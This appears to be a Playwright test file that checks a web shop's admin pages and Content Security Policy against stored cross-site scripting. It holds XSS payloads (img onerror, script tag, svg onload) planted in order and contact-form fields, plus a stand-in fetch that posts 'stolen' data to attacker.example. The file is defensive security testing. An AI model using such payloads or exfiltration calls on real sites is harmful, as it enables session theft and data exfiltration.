import { randomBytes } from 'node:crypto';
import { systemApi } from '@spade/testkit/api-client';
import { launchBrowser } from '@spade/testkit/browser';
import { runningSystem, sitePort } from '@spade/testkit/running-system';
import { placeOrder, productInStock } from '@spade/testkit/shop';
import type { Browser, Page } from 'playwright-core';

const attacked = runningSystem();

/** Scripts as they are smuggled into text, each telling when it runs. */
const IMAGE = '<img src=x onerror="window.attacked=1">';
const TAG = '<script>window.attacked=2</script>';
const DRAWING = '"><svg/onload=window.attacked=3>';

/** What was put into the shop, by the unique words that identify it. */
interface Planted {
  orderId: string;
  mark: string;
}

/** Places an order and sends a message with a script in every field that takes text. */
async function plant(): Promise<Planted> {
  const mark = `M${randomBytes(4).toString('hex')}`;
  const email = `${mark.toLowerCase()}@mail.example`;
  const { orderId } = await placeOrder(await productInStock(1), {
    customerName: `${mark} ${IMAGE}`,
    customerEmail: email,
    shippingAddress: `12 ${TAG} Road`,
    shippingCity: DRAWING,
    productTitle: TAG,
  });
  await systemApi().post('/api/contact', {
    ...{ firstName: mark, lastName: TAG, email },
    subject: `${mark} ${DRAWING}`,
    message: `${IMAGE}\n${TAG}\n${DRAWING}`,
  });
  return { orderId, mark };
}

/** The number under which staff find the order. */
async function staffNumberOf(mark: string): Promise<number> {
  const answer = await fetch(`${attacked.gatewayUrl}/api/orders?search=${mark}`, {
    headers: { authorization: `Bearer ${attacked.token}` },
  });
  const { data } = (await answer.json()) as { data: { id: number }[] }; // gateway/openapi.json
  return data[0]?.id ?? 0;
}

describe('a stored script', () => {
  let browser: Browser;
  let page: Page;
  let planted: Planted;
  const refused: string[] = [];

  beforeAll(async () => {
    planted = await plant();
    browser = await launchBrowser();
    // Through nginx: its policy is the one of the containers.
    const context = await browser.newContext({
      baseURL: attacked.siteUrl,
      viewport: { width: 1280, height: 900 },
    });
    await context.addInitScript(
      (token) => localStorage.setItem('adminToken', token),
      attacked.token,
    );
    page = await context.newPage();
    page.setDefaultTimeout(15_000);
    page.on('console', (message) => {
      if (/content security policy/i.test(message.text())) refused.push(message.text());
    });
  });
  afterAll(() => browser.close());

  const expectText = async (text: string) => {
    await page.getByText(text, { exact: false }).first().waitFor();
    expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
    // It never even got so far that the policy had to stop it.
    expect(refused).toEqual([]);
  };

  it('is text on the dashboard', async () => {
    await page.goto('/admin');
    await expectText(`${planted.mark} ${IMAGE}`);
  });

  it('is text in the table of orders and in the order itself', async () => {
    await page.goto(`/admin/orders?search=${planted.mark}`);
    await expectText(`${planted.mark} ${IMAGE}`);
    await page.goto(`/admin/orders?order=${await staffNumberOf(planted.mark)}&step=confirm`);
    await page.getByRole('region', { name: 'Open order' }).waitFor();
    await expectText(`12 ${TAG} Road`);
  });

  it('is text in the messages', async () => {
    await page.goto('/admin?tab=messages');
    await page.getByRole('tab', { name: 'Messages' }).click();
    const subject = page.getByText(`${planted.mark} ${DRAWING}`).first();
    await subject.waitFor();
    await subject.click();
    await expectText(TAG);
  });

  it("is text on the buyer's own page", async () => {
    await page.goto(`/orders/${planted.orderId}`);
    await page.getByRole('heading', { level: 1 }).waitFor();
    expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
  });
});

describe('the policy of the pages', () => {
  it('stops a script that got into a page all the same', async () => {
    const browser = await launchBrowser();
    try {
      const page = await browser.newPage();
      await page.goto(`http://127.0.0.1:${sitePort(attacked)}/admin/login`);
      const outcome = await page.evaluate(async () => {
        const violations: string[] = [];
        const reported = Promise.withResolvers<void>();
        // The debugger's own call may use eval whatever the policy says; what comes after it may not.
        await new Promise((resolve) => setTimeout(resolve, 50));
        addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          violations.push(effectiveDirective);
          const meant = ['connect-src', 'require-trusted-types-for'];
          if (meant.every((directive) => violations.includes(directive))) reported.resolve();
        });
        const tried: string[] = [];
        const attempt = (name: string, act: () => void) => {
          try {
            act();
          } catch {
            tried.push(`${name} threw`);
          }
        };
        attempt('innerHTML', () => {
          document.body.innerHTML = '<img src=x onerror="window.attacked=1">';
        });
        attempt('inline', () => {
          const script = document.createElement('script');
          script.append('window.attacked=2');
          document.head.append(script);
        });
        attempt('eval', () => {
          // By its name, as smuggled-in code would reach it.
          Reflect.get(window, 'eval')('window.attacked=3');
        });
        attempt('foreign', () => {
          const script = document.createElement('script');
          script.setAttribute('src', 'https://attacker.example/x.js');
          document.head.append(script);
        });
        await fetch('https://attacker.example/', { method: 'POST', body: 'stolen' }).catch(() =>
          tried.push('fetch threw'),
        );
        await reported.promise;
        return { tried, isAttacked: 'attacked' in window };
      });
      expect(outcome.isAttacked).toBe(false);
      expect(outcome.tried).toEqual(
        expect.arrayContaining(['innerHTML threw', 'eval threw', 'fetch threw']),
      );
    } finally {
      await browser.close();
    }
  });
});
